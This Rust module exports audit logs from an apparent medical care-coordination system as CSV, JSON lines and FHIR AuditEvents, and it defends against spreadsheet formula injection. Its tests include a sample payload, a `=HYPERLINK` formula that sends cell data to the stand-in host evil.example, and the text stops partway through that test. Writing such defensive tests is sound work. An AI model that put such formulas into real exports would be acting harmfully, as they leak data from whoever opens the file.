//! Audit records turned into export formats for security officers' audit reviews (the MHLW
//! guideline, 6.0 edition, asks for the access logs to be reviewed regularly). Pure functions:
//! reading the records, checking the chain and streaming the response are the caller's job.
//!
//! Every row carries its record's `position` in the tamper-evident log ([`super::chain`]), or
//! none for a record the chain has not reached yet, so an export can be matched against a
//! verified range of the log.
//!
//! # Formats
//!
//! - **CSV** ([`Format::Csv`], RFC 4180): UTF-8, CRLF line ends, the header ([`csv_header`])
//!   as the first line, then one [`csv_line`] per record. Excel only reads UTF-8 correctly when
//!   the file starts with a byte order mark: write [`csv_bom`] first for files meant for it.
//! - **JSON lines** ([`Format::JsonLines`]): one compact JSON object per line ([`json_line`]),
//!   keyed by the CSV column names, plus `occurred_at_us`, the stored integer instant. Absent
//!   values are `null`, so every line has every key.
//! - **FHIR** ([`Format::Fhir`]): one FHIR R4 `AuditEvent` per line ([`fhir_line`]), the
//!   NDJSON of FHIR bulk data (`application/fhir+ndjson`), shaped after the IHE Basic Audit Log
//!   Patterns (BALP); see [`fhir_audit_event`] for the mapping.
//!
//! # Spreadsheet formula injection
//!
//! A CSV cell that starts with `=`, `+`, `-` or `@` is run as a formula by Excel, LibreOffice
//! and Google Sheets (`=HYPERLINK(…)` to leak data, `=cmd|…` for DDE), and a leading tab or
//! carriage return can hide such a prefix. Some exported fields are chosen by whoever sends the
//! request (the user agent, above all), so, as OWASP's "CSV Injection" advice says, every cell
//! that starts with one of those characters gets a leading `'`, which makes spreadsheets show
//! the cell as text, and is quoted. The full-width forms `＝ ＋ － ＠` are treated the same way,
//! since Japanese spreadsheet software may convert them to their ASCII forms. The `'` changes
//! the value a CSV parser reads; the JSON and FHIR exports carry values unchanged.

use std::fmt;
use std::str::FromStr;

use serde::Serialize;
use serde_json::{Map, Value, json};

use crate::store::AuditRecord;

/// One record to export, with its position in the tamper-evident log (`None`: not chained).
#[derive(Debug, Clone, Copy)]
pub struct ExportRow<'a> {
    /// The record as stored.
    pub record: &'a AuditRecord,
    /// The record's position in the hash chain, counted from 1.
    pub position: Option<i64>,
}

impl<'a> ExportRow<'a> {
    /// `record` at `position`.
    pub fn new(record: &'a AuditRecord, position: Option<i64>) -> Self {
        ExportRow { record, position }
    }
}

/// An export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Format {
    /// RFC 4180 CSV with a header line.
    Csv,
    /// One JSON object per line.
    JsonLines,
    /// One FHIR R4 `AuditEvent` per line (FHIR NDJSON).
    Fhir,
}

impl Format {
    /// Every format.
    pub const ALL: [Format; 3] = [Format::Csv, Format::JsonLines, Format::Fhir];

    /// The name it is asked for by: `csv`, `jsonl` or `fhir`.
    pub fn as_str(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::JsonLines => "jsonl",
            Format::Fhir => "fhir",
        }
    }

    /// The media type of a file in this format.
    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::JsonLines => "application/x-ndjson",
            // FHIR R4 "ndjson" page: resources one a line are `application/fhir+ndjson`;
            // `application/fhir+json` would promise a single resource (e.g. a Bundle).
            Format::Fhir => "application/fhir+ndjson",
        }
    }

    /// The file name extension, without the dot.
    pub fn file_extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::JsonLines => "jsonl",
            Format::Fhir => "ndjson",
        }
    }
}

impl fmt::Display for Format {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// A format name that is not `csv`, `jsonl` or `fhir`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
#[error("unknown export format (expected csv, jsonl or fhir)")]
pub struct UnknownFormat;

impl FromStr for Format {
    type Err = UnknownFormat;

    /// Parses a format name, ignoring ASCII case.
    fn from_str(name: &str) -> Result<Self, Self::Err> {
        Format::ALL
            .into_iter()
            .find(|format| format.as_str().eq_ignore_ascii_case(name))
            .ok_or(UnknownFormat)
    }
}

/// A stored instant (microseconds since the Unix epoch, UTC) in RFC 3339 with all six
/// fractional digits, e.g. `2026-11-21T03:04:05.123456Z`. An instant outside years ±9999,
/// which only a damaged record could hold, is written as its integer rather than clamped to
/// a plausible but wrong date.
pub fn rfc3339_micros(micros: i64) -> String {
    match ::time::OffsetDateTime::from_unix_timestamp_nanos(i128::from(micros) * 1_000) {
        Ok(at) => format!(
            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:06}Z",
            at.year(),
            u8::from(at.month()),
            at.day(),
            at.hour(),
            at.minute(),
            at.second(),
            at.microsecond()
        ),
        Err(_) => micros.to_string(),
    }
}

// ------------------------------------------------------------------------------------------
// CSV
// ------------------------------------------------------------------------------------------

/// The CSV columns, in order; also the keys of the JSON lines.
pub const CSV_COLUMNS: [&str; 14] = [
    "position",
    "audit_event_id",
    "occurred_at",
    "actor_user_id",
    "actor_role",
    "actor_organisation_id",
    "session_id",
    "source_address",
    "user_agent",
    "action",
    "object_type",
    "object_id",
    "outcome",
    "reason",
];

/// First characters that make a spreadsheet read a cell as a formula (OWASP's list, plus the
/// full-width forms of `= + - @`).
const FORMULA_TRIGGERS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The UTF-8 byte order mark, to write before the header when the file is meant for Excel.
pub fn csv_bom() -> &'static str {
    "\u{FEFF}"
}

/// The header line: the column names of [`CSV_COLUMNS`], ending in CRLF.
pub fn csv_header() -> String {
    let mut line = CSV_COLUMNS.join(",");
    line.push_str("\r\n");
    line
}

/// One record as a CSV line ending in CRLF (a quoted cell may hold line breaks of its own),
/// with every cell defused against formula injection.
pub fn csv_line(row: ExportRow<'_>) -> String {
    let record = row.record;
    let position = row.position.map(|position| position.to_string());
    let id = record.audit_event_id.to_string();
    let occurred_at = rfc3339_micros(record.occurred_at);
    let cells: [Option<&str>; 14] = [
        position.as_deref(),
        Some(&id),
        Some(&occurred_at),
        record.actor_user_id.as_deref(),
        record.actor_role.as_deref(),
        record.actor_organisation_id.as_deref(),
        record.session_id.as_deref(),
        record.source_address.as_deref(),
        record.user_agent.as_deref(),
        Some(&record.action),
        record.object_type.as_deref(),
        record.object_id.as_deref(),
        Some(&record.outcome),
        record.reason.as_deref(),
    ];
    let mut line = String::with_capacity(256);
    for (index, cell) in cells.into_iter().enumerate() {
        if index > 0 {
            line.push(',');
        }
        push_csv_cell(&mut line, cell.unwrap_or(""));
    }
    line.push_str("\r\n");
    line
}

/// Appends `value` as one cell: a `'` before a formula trigger, and quotes (with inner quotes
/// doubled) around a cell that has a trigger, a comma, a quote or a line break.
fn push_csv_cell(out: &mut String, value: &str) {
    let formula = value.starts_with(FORMULA_TRIGGERS);
    if !formula && !value.contains([',', '"', '\r', '\n']) {
        out.push_str(value);
        return;
    }
    out.push('"');
    if formula {
        out.push('\'');
    }
    for ch in value.chars() {
        if ch == '"' {
            out.push('"');
        }
        out.push(ch);
    }
    out.push('"');
}

// ------------------------------------------------------------------------------------------
// JSON lines
// ------------------------------------------------------------------------------------------

/// A JSON line: the CSV columns in their order, plus the integer instant.
#[derive(Serialize)]
struct JsonRow<'a> {
    position: Option<i64>,
    audit_event_id: i64,
    occurred_at: String,
    occurred_at_us: i64,
    actor_user_id: Option<&'a str>,
    actor_role: Option<&'a str>,
    actor_organisation_id: Option<&'a str>,
    session_id: Option<&'a str>,
    source_address: Option<&'a str>,
    user_agent: Option<&'a str>,
    action: &'a str,
    object_type: Option<&'a str>,
    object_id: Option<&'a str>,
    outcome: &'a str,
    reason: Option<&'a str>,
}

/// One record as a compact JSON object ending in `\n`. Keys are [`CSV_COLUMNS`] plus
/// `occurred_at_us`; absent values are `null`.
pub fn json_line(row: ExportRow<'_>) -> String {
    let record = row.record;
    let json = JsonRow {
        position: row.position,
        audit_event_id: record.audit_event_id,
        occurred_at: rfc3339_micros(record.occurred_at),
        occurred_at_us: record.occurred_at,
        actor_user_id: record.actor_user_id.as_deref(),
        actor_role: record.actor_role.as_deref(),
        actor_organisation_id: record.actor_organisation_id.as_deref(),
        session_id: record.session_id.as_deref(),
        source_address: record.source_address.as_deref(),
        user_agent: record.user_agent.as_deref(),
        action: &record.action,
        object_type: record.object_type.as_deref(),
        object_id: record.object_id.as_deref(),
        outcome: &record.outcome,
        reason: record.reason.as_deref(),
    };
    to_line(&json, record.audit_event_id)
}

/// `value` as one line of compact JSON. Serialising strings, integers and maps with string
/// keys cannot fail; should it ever, the line still parses and names the record.
fn to_line<T: Serialize>(value: &T, audit_event_id: i64) -> String {
    let mut line = serde_json::to_string(value).unwrap_or_else(|_| {
        format!("{{\"audit_event_id\":{audit_event_id},\"export_error\":\"serialisation\"}}")
    });
    line.push('\n');
    line
}

// ------------------------------------------------------------------------------------------
// FHIR R4 AuditEvent (IHE BALP)
// ------------------------------------------------------------------------------------------

/// Extension (on the `AuditEvent`) holding the record's position in the tamper-evident log, as
/// `valueDecimal` (an integer; R4 has no 64-bit integer type).
pub const FHIR_EXT_LOG_POSITION: &str = "urn:tsunagu:fhir:extension:audit-log-position";
/// Extension (on the user agent) holding the session as `valueIdentifier` (system
/// `urn:tsunagu:session`).
pub const FHIR_EXT_SESSION: &str = "urn:tsunagu:fhir:extension:session";
/// Extension (on the user agent) holding the user's organisation as `valueIdentifier` (system
/// `urn:tsunagu:organisation`).
pub const FHIR_EXT_ORGANISATION: &str = "urn:tsunagu:fhir:extension:organisation";

/// Canonical URLs of the BALP profiles start with this, then `Read`, `PatientRead`, ….
const BALP_PROFILE: &str = "https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit.";
const DCM: &str = "http://dicom.nema.org/resources/ontology/DCM";
const AUDIT_EVENT_TYPE: &str = "http://terminology.hl7.org/CodeSystem/audit-event-type";
const RESTFUL_INTERACTION: &str = "http://hl7.org/fhir/restful-interaction";
const PARTICIPATION_TYPE: &str = "http://terminology.hl7.org/CodeSystem/v3-ParticipationType";
const SECURITY_ROLE_TYPE: &str = "http://terminology.hl7.org/CodeSystem/extra-security-role-type";
const PROVENANCE_PARTICIPANT_TYPE: &str =
    "http://terminology.hl7.org/CodeSystem/provenance-participant-type";
const SECURITY_SOURCE_TYPE: &str = "http://terminology.hl7.org/CodeSystem/security-source-type";
const AUDIT_ENTITY_TYPE: &str = "http://terminology.hl7.org/CodeSystem/audit-entity-type";
const OBJECT_ROLE: &str = "http://terminology.hl7.org/CodeSystem/object-role";
/// Tsunagu's own subtype: the stored action name, so that nothing is lost in the mapping.
const TSUNAGU_ACTION: &str = "urn:tsunagu:action";

/// What kind of event an action is, for the FHIR mapping.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Read,
    Create,
    Update,
    Delete,
    Query,
    /// Anything else done through the API (key rotations); also the fallback for actions this
    /// module does not know yet.
    Operation,
    Login,
    Logout,
    /// The other `auth.*` actions: refresh, expiry, revocation, password and TOTP changes.
    Authentication,
    /// Integrity failures and clock status changes, which bear on the trail's reliability.
    SecurityAlert,
}

impl Kind {
    /// The kind of a stored action name; `None` for a name this module does not know.
    fn of(action: &str) -> Option<Kind> {
        Some(match action {
            "auth.login" => Kind::Login,
            "auth.logout" => Kind::Logout,
            "auth.refresh"
            | "auth.password_change"
            | "auth.totp_enrol"
            | "auth.totp_confirm"
            | "auth.session_revoke"
            | "auth.session_expire"
            | "auth.session_list"
            | "auth.policy_accept" => Kind::Authentication,
            "security.integrity_failure"
            | "security.audit_integrity_failure"
            | "system.clock_status" => Kind::SecurityAlert,
            "room.view" | "room.member_list" | "room.consent_list" | "timeline.read"
            | "timeline.versions" | "attachment.read" | "admin.user_view" => Kind::Read,
            "timeline.acknowledgements" | "admin.organisation_view" => Kind::Read,
            "form.read" | "form.print" | "form.export" | "sheet.read" | "sheet.history"
            | "sheet.print" => Kind::Read,
            "form.list" | "form.inbox" => Kind::Query,
            "form.send" | "form.answer" | "admin.form_template_create" => Kind::Create,
            "form.acknowledge" | "form.correct" | "sheet.update" | "sheet.confirm" => Kind::Update,
            "room.list"
            | "room.patient_search"
            | "directory.search"
            | "admin.user_list"
            | "admin.session_list"
            | "admin.invitation_list"
            | "admin.organisation_list"
            | "audit.search"
            | "audit.report"
            | "audit.export"
            | "audit.review_list" => Kind::Query,
            "room.create"
            | "room.member_invite"
            | "room.consent_record"
            | "timeline.post"
            | "timeline.acknowledge"
            | "attachment.upload"
            | "admin.organisation_create"
            | "admin.invitation_create"
            | "admin.system_admin_create"
            | "audit.review_sign_off" => Kind::Create,
            "room.member_respond"
            | "room.member_leave"
            | "room.member_revoke"
            | "room.consent_withdraw"
            | "room.close"
            | "timeline.edit"
            | "timeline.mark_read"
            | "identity.invitation_accept"
            | "admin.organisation_update"
            | "admin.invitation_revoke"
            | "admin.user_disable"
            | "admin.user_enable"
            | "admin.password_reset"
            | "admin.totp_reset"
            | "admin.role_grant" => Kind::Update,
            "timeline.delete" | "attachment.cleanup" | "admin.room_purge" => Kind::Delete,
            "admin.room_key_rotate" | "admin.master_key_rotate" | "audit.verify" => Kind::Operation,
            _ => return None,
        })
    }

    /// `AuditEvent.type`.
    fn event_type(self) -> Value {
        match self {
            Kind::Login | Kind::Logout | Kind::Authentication => {
                coding(DCM, "110114", "User Authentication")
            }
            Kind::SecurityAlert => coding(DCM, "110113", "Security Alert"),
            _ => coding(AUDIT_EVENT_TYPE, "rest", "Restful Operation"),
        }
    }

    /// The standard `AuditEvent.subtype`, if the kind has one.
    fn subtype(self) -> Option<Value> {
        let (system, code, display) = match self {
            Kind::Read => (RESTFUL_INTERACTION, "read", "read"),
            Kind::Create => (RESTFUL_INTERACTION, "create", "create"),
            Kind::Update => (RESTFUL_INTERACTION, "update", "update"),
            Kind::Delete => (RESTFUL_INTERACTION, "delete", "delete"),
            Kind::Query => (RESTFUL_INTERACTION, "search", "search"),
            Kind::Operation => (RESTFUL_INTERACTION, "operation", "operation"),
            Kind::Login => (DCM, "110122", "Login"),
            Kind::Logout => (DCM, "110123", "Logout"),
            Kind::Authentication | Kind::SecurityAlert => return None,
        };
        Some(coding(system, code, display))
    }

    /// `AuditEvent.action` (R4 AuditEventAction).
    fn action_code(self) -> &'static str {
        match self {
            Kind::Create => "C",
            Kind::Read => "R",
            Kind::Update => "U",
            Kind::Delete => "D",
            _ => "E",
        }
    }

    /// The BALP profile for a successful event of this kind, without its `Patient` prefix.
    fn balp_profile(self) -> Option<&'static str> {
        match self {
            Kind::Read => Some("Read"),
            Kind::Create => Some("Create"),
            Kind::Update => Some("Update"),
            Kind::Delete => Some("Delete"),
            _ => None,
        }
    }

    /// The user agent's type: BALP's "information recipient" for reads and queries, "author"
    /// for changes; "human user" otherwise.
    fn user_type(self) -> Value {
        match self {
            Kind::Read | Kind::Query => {
                concept(PARTICIPATION_TYPE, "IRCP", "information recipient")
            }
            Kind::Create | Kind::Update | Kind::Delete => {
                concept(PARTICIPATION_TYPE, "AUT", "author (originator)")
            }
            _ => concept(SECURITY_ROLE_TYPE, "humanuser", "human user"),
        }
    }

    /// The client and server agents' types, as the BALP profiles set them: for a read the data
    /// flows from the server (source) to the client (destination), for other requests the
    /// other way; a delete names the client application and the server as custodian.
    fn client_and_server_types(self) -> (Value, Value) {
        let source = || concept(DCM, "110153", "Source Role ID");
        let destination = || concept(DCM, "110152", "Destination Role ID");
        match self {
            Kind::Read => (destination(), source()),
            Kind::Delete => (
                concept(DCM, "110150", "Application"),
                concept(PROVENANCE_PARTICIPANT_TYPE, "custodian", "Custodian"),
            ),
            _ => (source(), destination()),
        }
    }
}

fn coding(system: &str, code: &str, display: &str) -> Value {
    json!({ "system": system, "code": code, "display": display })
}

fn concept(system: &str, code: &str, display: &str) -> Value {
    json!({ "coding": [coding(system, code, display)] })
}

fn identifier(system: &str, value: &str) -> Value {
    json!({ "system": system, "value": value })
}

/// The value of `key` in a reason of `key=value` pairs separated by `;`.
fn reason_value<'a>(reason: &'a str, key: &str) -> Option<&'a str> {
    reason
        .split(';')
        .find_map(|pair| pair.strip_prefix(key)?.strip_prefix('='))
        .filter(|value| !value.is_empty())
}

/// `outcome` and `outcomeDesc`. FHIR R4 AuditEventOutcome: 0 success, 4 minor failure ("often
/// equivalent to an HTTP 400 response"), 8 serious failure (HTTP 500), 12 major failure
/// (system unavailable). A failure (wrong password, expired code…) and a refusal by
/// authorisation (HTTP 403) are both client-side failures, so both are 4; the description of
/// a refusal starts with `refused` to keep the two apart.
fn outcome(record: &AuditRecord) -> (&'static str, Option<String>) {
    let reason = record.reason.as_deref();
    match record.outcome.as_str() {
        "success" => ("0", reason.map(str::to_owned)),
        "failure" => ("4", reason.map(str::to_owned)),
        "refused" => (
            "4",
            Some(match reason {
                Some(reason) => format!("refused: {reason}"),
                None => "refused".to_owned(),
            }),
        ),
        other => (
            "4",
            Some(match reason {
                Some(reason) => format!("{other}: {reason}"),
                None => other.to_owned(),
            }),
        ),
    }
}

/// A record as a FHIR R4 `AuditEvent` after the IHE Basic Audit Log Patterns (BALP).
/// `server_name` names this server (its host name): the observer, and the server agent.
///
/// - `id` is `tsunagu-<audit_event_id>`; the log position, when known, is the extension
///   [`FHIR_EXT_LOG_POSITION`].
/// - `type`, `subtype` and `action` follow BALP for reads (`rest`/`read`, `R`), creations
///   (`C`), updates (`U`), deletions (`D`) and searches (`rest`/`search`, `E`); `auth.login`
///   and `auth.logout` are DICOM 110114 "User Authentication" with subtype 110122 "Login" or
///   110123 "Logout" (as in the FHIR core login example), the other `auth.*` actions 110114
///   alone, integrity failures and clock status changes DICOM 110113 "Security Alert". A
///   second subtype in system `urn:tsunagu:action` always carries the stored action name.
/// - `outcome` is `0` for success and `4` for a failure or a refusal; `outcomeDesc` carries
///   the reason, prefixed by `refused` for a refusal.
/// - Agents: the user (`who.identifier` in `urn:tsunagu:user`, `role` in `urn:tsunagu:role`,
///   `requestor` true, with the session and organisation as extensions [`FHIR_EXT_SESSION`]
///   and [`FHIR_EXT_ORGANISATION`]); the client (`who.display` the user agent, `network` the
///   source address as type 2, IP address) and the server (`server_name`, type 1, machine
///   name). BALP puts the network address on the client agent, never on the user ("users are
///   not network devices").
/// - `source`: observer `server_name`, type 4 "Application Server".
/// - Entities: the object acted on (type 2 "System Object", role 4 "Domain Resource", in
///   `urn:tsunagu:<object_type>`; for rooms the entry, attachment or consent named by the
///   reason, when it names one); and for a room, which is one patient, the patient entity BALP
///   asks for (type 1 "Person", role 1 "Patient", `what` a logical reference to a `Patient`
///   identified by `urn:tsunagu:room`).
/// - `meta.profile` names a BALP profile (`Read`, `Create`, `Update`, `Delete`, or their
///   `Patient…` forms for rooms) only where the event can conform: a success (every BALP
///   profile fixes `outcome` to 0), with an object and a source address. BALP has no login,
///   logout or generic operation profile, and its `Query` profiles require the raw query
///   string, which Tsunagu never stores; those events claim no profile.
pub fn fhir_audit_event(row: ExportRow<'_>, server_name: &str) -> Value {
    let record = row.record;
    let kind = Kind::of(&record.action);
    let effective = kind.unwrap_or(Kind::Operation);
    let room = match (record.object_type.as_deref(), record.object_id.as_deref()) {
        (Some("room"), Some(room)) => Some(room),
        _ => None,
    };

    let mut event = Map::new();
    event.insert("resourceType".to_owned(), json!("AuditEvent"));
    event.insert(
        "id".to_owned(),
        json!(format!("tsunagu-{}", record.audit_event_id)),
    );

    let data = data_entity(record);
    let profile = effective
        .balp_profile()
        .filter(|_| kind.is_some() && record.outcome == "success")
        .filter(|_| data.is_some() && record.source_address.is_some())
        .map(|name| match room {
            Some(_) => format!("{BALP_PROFILE}Patient{name}"),
            None => format!("{BALP_PROFILE}{name}"),
        });
    if let Some(profile) = profile {
        event.insert("meta".to_owned(), json!({ "profile": [profile] }));
    }
    if let Some(position) = row.position {
        event.insert(
            "extension".to_owned(),
            json!([{ "url": FHIR_EXT_LOG_POSITION, "valueDecimal": position }]),
        );
    }

    event.insert("type".to_owned(), effective.event_type());
    let mut subtypes: Vec<Value> = effective.subtype().into_iter().collect();
    subtypes.push(coding(TSUNAGU_ACTION, &record.action, &record.action));
    event.insert("subtype".to_owned(), Value::Array(subtypes));
    event.insert("action".to_owned(), json!(effective.action_code()));
    event.insert(
        "recorded".to_owned(),
        json!(rfc3339_micros(record.occurred_at)),
    );
    let (code, description) = outcome(record);
    event.insert("outcome".to_owned(), json!(code));
    if let Some(description) = description {
        event.insert("outcomeDesc".to_owned(), json!(description));
    }

    event.insert(
        "agent".to_owned(),
        Value::Array(agents(record, effective, server_name)),
    );
    event.insert(
        "source".to_owned(),
        json!({
            "observer": { "display": server_name },
            "type": [coding(SECURITY_SOURCE_TYPE, "4", "Application Server")],
        }),
    );

    let mut entities: Vec<Value> = data.into_iter().collect();
    if let Some(room) = room {
        entities.push(json!({
            "what": {
                "type": "Patient",
                "identifier": identifier("urn:tsunagu:room", room),
            },
            "type": coding(AUDIT_ENTITY_TYPE, "1", "Person"),
            "role": coding(OBJECT_ROLE, "1", "Patient"),
        }));
    }
    if !entities.is_empty() {
        event.insert("entity".to_owned(), Value::Array(entities));
    }
    Value::Object(event)
}

/// The user (when the record names any of user, role, organisation or session), the client
/// and the server.
fn agents(record: &AuditRecord, kind: Kind, server_name: &str) -> Vec<Value> {
    let mut agents = Vec::with_capacity(3);
    let (client_type, server_type) = kind.client_and_server_types();

    if record.actor_user_id.is_some()
        || record.actor_role.is_some()
        || record.actor_organisation_id.is_some()
        || record.session_id.is_some()
    {
        let mut user = Map::new();
        let mut extensions = Vec::new();
        if let Some(session) = record.session_id.as_deref() {
            extensions.push(json!({
                "url": FHIR_EXT_SESSION,
                "valueIdentifier": identifier("urn:tsunagu:session", session),
            }));
        }
        if let Some(organisation) = record.actor_organisation_id.as_deref() {
            extensions.push(json!({
                "url": FHIR_EXT_ORGANISATION,
                "valueIdentifier": identifier("urn:tsunagu:organisation", organisation),
            }));
        }
        if !extensions.is_empty() {
            user.insert("extension".to_owned(), Value::Array(extensions));
        }
        user.insert("type".to_owned(), kind.user_type());
        if let Some(role) = record.actor_role.as_deref() {
            user.insert(
                "role".to_owned(),
                json!([{ "coding": [{ "system": "urn:tsunagu:role", "code": role }] }]),
            );
        }
        let who = match record.actor_user_id.as_deref() {
            Some(user_id) => json!({ "identifier": identifier("urn:tsunagu:user", user_id) }),
            None => json!({ "display": "unknown user" }),
        };
        user.insert("who".to_owned(), who);
        user.insert("requestor".to_owned(), json!(true));
        agents.push(Value::Object(user));
    }

    let mut client = Map::new();
    client.insert("type".to_owned(), client_type);
    client.insert(
        "who".to_owned(),
        json!({ "display": record.user_agent.as_deref().unwrap_or("unknown client") }),
    );
    client.insert("requestor".to_owned(), json!(false));
    if let Some(address) = record.source_address.as_deref() {
        client.insert(
            "network".to_owned(),
            json!({ "address": address, "type": "2" }),
        );
    }
    agents.push(Value::Object(client));

    agents.push(json!({
        "type": server_type,
        "who": { "display": server_name },
        "requestor": false,
        "network": { "address": server_name, "type": "1" },
    }));
    agents
}

/// The object acted on as a BALP data entity: for a room, the attachment, entry or consent
/// the reason names, if any, else the room itself.
fn data_entity(record: &AuditRecord) -> Option<Value> {
    let object_type = record.object_type.as_deref()?;
    let object_id = record.object_id.as_deref()?;
    let reason = record.reason.as_deref().unwrap_or("");
    let (kind, id) = if object_type == "room" {
        ["attachment", "entry", "consent"]
            .into_iter()
            .find_map(|key| reason_value(reason, key).map(|id| (key, id)))
            .unwrap_or((object_type, object_id))
    } else {
        (object_type, object_id)
    };
    Some(json!({
        "what": { "identifier": identifier(&format!("urn:tsunagu:{kind}"), id) },
        "type": coding(AUDIT_ENTITY_TYPE, "2", "System Object"),
        "role": coding(OBJECT_ROLE, "4", "Domain Resource"),
    }))
}

/// [`fhir_audit_event`] as one line of compact JSON ending in `\n` (FHIR NDJSON).
pub fn fhir_line(row: ExportRow<'_>, server_name: &str) -> String {
    to_line(
        &fhir_audit_event(row, server_name),
        row.record.audit_event_id,
    )
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::Action;
    use super::*;

    /// 2026-11-21T03:04:05.123456Z.
    const AT: i64 = 1_795_230_245_123_456;
    const SERVER: &str = "tsunagu.example.jp";

    fn record(action: &str, outcome: &str) -> AuditRecord {
        AuditRecord {
            audit_event_id: 42,
            occurred_at: AT,
            actor_user_id: Some("0193a3b4-user".to_owned()),
            actor_role: Some("visiting_nurse".to_owned()),
            actor_organisation_id: Some("0193a3b4-org".to_owned()),
            session_id: Some("0193a3b4-session".to_owned()),
            source_address: Some("203.0.113.7".to_owned()),
            user_agent: Some("tsunagu-cli/0.1.0".to_owned()),
            action: action.to_owned(),
            object_type: Some("room".to_owned()),
            object_id: Some("0193a3b4-room".to_owned()),
            outcome: outcome.to_owned(),
            reason: None,
        }
    }

    /// An RFC 4180 reader for one record (which may span lines); checks the CRLF end.
    fn parse_csv(line: &str) -> Vec<String> {
        let body = line.strip_suffix("\r\n").expect("line ends in CRLF");
        let mut cells = vec![String::new()];
        let mut chars = body.chars().peekable();
        let mut quoted = false;
        let mut at_start = true;
        while let Some(ch) = chars.next() {
            let cell = cells.last_mut().unwrap();
            if quoted {
                if ch == '"' {
                    if chars.peek() == Some(&'"') {
                        chars.next();
                        cell.push('"');
                    } else {
                        quoted = false;
                    }
                } else {
                    cell.push(ch);
                }
            } else if ch == ',' {
                cells.push(String::new());
                at_start = true;
                continue;
            } else if ch == '"' && at_start {
                quoted = true;
            } else {
                assert!(
                    !matches!(ch, '"' | '\r' | '\n'),
                    "unquoted {ch:?} in {line:?}"
                );
                cell.push(ch);
            }
            at_start = false;
        }
        assert!(!quoted, "unterminated quote in {line:?}");
        cells
    }

    fn csv_cells(record: &AuditRecord) -> Vec<String> {
        let cells = parse_csv(&csv_line(ExportRow::new(record, Some(7))));
        assert_eq!(cells.len(), CSV_COLUMNS.len());
        cells
    }

    fn column(name: &str) -> usize {
        CSV_COLUMNS.iter().position(|c| *c == name).unwrap()
    }

    fn fhir(record: &AuditRecord) -> Value {
        fhir_audit_event(ExportRow::new(record, Some(7)), SERVER)
    }

    fn profile(event: &Value) -> Option<&str> {
        event["meta"]["profile"][0].as_str()
    }

    fn agent_with_type<'a>(event: &'a Value, code: &str) -> &'a Value {
        event["agent"]
            .as_array()
            .unwrap()
            .iter()
            .find(|agent| agent["type"]["coding"][0]["code"] == code)
            .unwrap_or_else(|| panic!("no agent of type {code} in {event}"))
    }

    #[test]
    fn formats_by_name() {
        for format in Format::ALL {
            assert_eq!(format.as_str().parse::<Format>(), Ok(format));
            assert_eq!(format.to_string(), format.as_str());
        }
        assert_eq!("JSONL".parse::<Format>(), Ok(Format::JsonLines));
        assert_eq!("xml".parse::<Format>(), Err(UnknownFormat));
        assert_eq!("".parse::<Format>(), Err(UnknownFormat));
        assert_eq!(Format::Csv.content_type(), "text/csv; charset=utf-8");
        assert_eq!(Format::JsonLines.content_type(), "application/x-ndjson");
        assert_eq!(Format::Fhir.content_type(), "application/fhir+ndjson");
        assert_eq!(Format::Csv.file_extension(), "csv");
        assert_eq!(Format::JsonLines.file_extension(), "jsonl");
        assert_eq!(Format::Fhir.file_extension(), "ndjson");
    }

    #[test]
    fn timestamps_keep_microseconds() {
        assert_eq!(rfc3339_micros(AT), "2026-11-21T03:04:05.123456Z");
        assert_eq!(rfc3339_micros(0), "1970-01-01T00:00:00.000000Z");
        assert_eq!(
            rfc3339_micros(1_795_230_245_000_005),
            "2026-11-21T03:04:05.000005Z"
        );
        // 2024 is a leap year.
        assert_eq!(
            rfc3339_micros(1_709_164_799_999_999),
            "2024-02-28T23:59:59.999999Z"
        );
        assert_eq!(
            rfc3339_micros(1_709_164_800_000_000),
            "2024-02-29T00:00:00.000000Z"
        );
        // Beyond year 9999: the integer, not a made-up date.
        assert_eq!(rfc3339_micros(i64::MAX), i64::MAX.to_string());
    }

    #[test]
    fn csv_header_and_plain_line() {
        let header = csv_header();
        assert_eq!(
            header,
            "position,audit_event_id,occurred_at,actor_user_id,actor_role,\
             actor_organisation_id,session_id,source_address,user_agent,action,object_type,\
             object_id,outcome,reason\r\n"
        );
        assert_eq!(csv_bom().as_bytes(), [0xEF, 0xBB, 0xBF]);

        let mut record = record("timeline.read", "success");
        record.reason = Some("after=3;count=10".to_owned());
        record.session_id = None;
        let line = csv_line(ExportRow::new(&record, Some(7)));
        assert_eq!(
            line,
            "7,42,2026-11-21T03:04:05.123456Z,0193a3b4-user,visiting_nurse,0193a3b4-org,,\
             203.0.113.7,tsunagu-cli/0.1.0,timeline.read,room,0193a3b4-room,success,\
             after=3;count=10\r\n"
        );
        let unchained = csv_line(ExportRow::new(&record, None));
        assert!(unchained.starts_with(",42,"), "{unchained}");
    }

    #[test]
    fn csv_defuses_every_formula_prefix() {
        for prefix in ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'] {
            let value = format!("{prefix}1+1");
            let mut record = record("auth.login", "failure");
            record.reason = Some(value.clone());
            record.user_agent = Some(value.clone());
            let line = csv_line(ExportRow::new(&record, Some(1)));
            assert!(line.contains(&format!("\"'{value}\"")), "{line:?}");
            let cells = csv_cells(&record);
            assert_eq!(cells[column("reason")], format!("'{value}"));
            assert_eq!(cells[column("user_agent")], format!("'{value}"));
        }
    }

    #[test]
    fn csv_defuses_attacker_text() {
        let mut record = record("auth.login", "failure");
        let agent = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"詳細\")";
        record.user_agent = Some(agent.to_owned());
        record.reason = Some("-2+3".to_owned());
        record.actor_role = Some("@SUM(A1:A9)".to_owned());
        let line = csv_line(ExportRow::new(&record, Some(1)));
        assert!(
            line.contains(",\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"詳細\"\")\","),
            "{line}"
        );
        assert!(line.ends_with(",\"'-2+3\"\r\n"), "{line}");
